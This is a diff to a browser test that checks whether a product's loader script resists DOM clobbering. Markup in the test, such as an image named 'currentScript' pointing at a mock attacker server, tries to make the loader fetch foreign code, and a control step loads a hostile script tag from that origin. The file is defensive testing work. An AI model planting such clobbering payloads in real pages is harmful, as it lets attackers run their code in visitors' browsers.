@@ -19,7 +19,7 @@ const policies = {
 
 /**
  * HTML that visitors can post, in a comment for example. Its names and ids replace properties of the document or the
- * window ("DOM clobbering").
+ * window ("DOM clobbering"). `evil` is the origin of the attacker's server.
  */
 const markup = {
   'an image': (evil: string) => `<img name="currentScript" alt="" src="${evil}/v1/sub.js">`,
@@ -41,20 +41,20 @@ const markup = {
       .join(''),
 } satisfies Record<string, (evil: string) => string>;
 
-/** A malicious origin that records requests, and a partner's page with a visitor's HTML before the product's script. */
+/** The attacker's server, which records requests, and a partner page with a visitor's HTML before the loader script. */
 const test = base.extend<{
-  requestedUrls: string[];
+  unexpectedRequests: string[];
   evil: PartnerServer;
   open(html: string, policy?: string): Promise<void>;
 }>({
   // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the required fixtures from the pattern
-  requestedUrls: async ({}, use) => use([]),
-  evil: async ({ requestedUrls }, use) => {
+  unexpectedRequests: async ({}, use) => use([]),
+  evil: async ({ unexpectedRequests }, use) => {
     const evil = await startPartnerServer((request, response) => {
-      // The browser itself loads the images and embeds of the markup. Any other request is made by the product's code.
+      // The browser itself loads the images and embeds of the markup. Any other request comes from the product's code.
       const destination = request.headers['sec-fetch-dest'];
       if (!['image', 'embed', 'object'].includes(String(destination)))
-        requestedUrls.push(`${destination} ${request.url}`);
+        unexpectedRequests.push(`${destination} ${request.url}`);
       response.writeHead(200, { 'Content-Type': 'text/javascript', 'Access-Control-Allow-Origin': '*' });
       response.end('document.title = "taken over"');
     });
@@ -86,7 +86,7 @@ const combinations = cartesianProduct({
 test('HTML whose names or ids replace properties of the page can’t make the loader load other code, whatever the content security policy @desktop', async ({
   page,
   sandbox,
-  requestedUrls,
+  unexpectedRequests,
   evil,
   open,
 }) => {
@@ -97,14 +97,14 @@ test('HTML whose names or ids replace properties of the page can’t make the lo
       await expect(page.getByText(text('en', 'plans:duration.legend'))).toBeVisible();
       await page.getByRole('button', { name: text('en', 'plans:continue'), exact: true }).click();
       await expect(page.getByRole('heading', { name: text('en', 'auth:views.start.title') })).toBeVisible();
-      expect(requestedUrls).toEqual([]);
+      expect(unexpectedRequests).toEqual([]);
       await expect(page).toHaveTitle('Comments');
     });
   }
   await test.step('control: the test detects a script that is loaded from the attacker’s origin', async () => {
     await open(`<script src="${evil.origin}/v1/sub.js"></script>`);
     await expect(page).toHaveTitle('taken over');
-    expect(requestedUrls).toEqual(['script /v1/sub.js']);
+    expect(unexpectedRequests).toEqual(['script /v1/sub.js']);
   });
 });
 
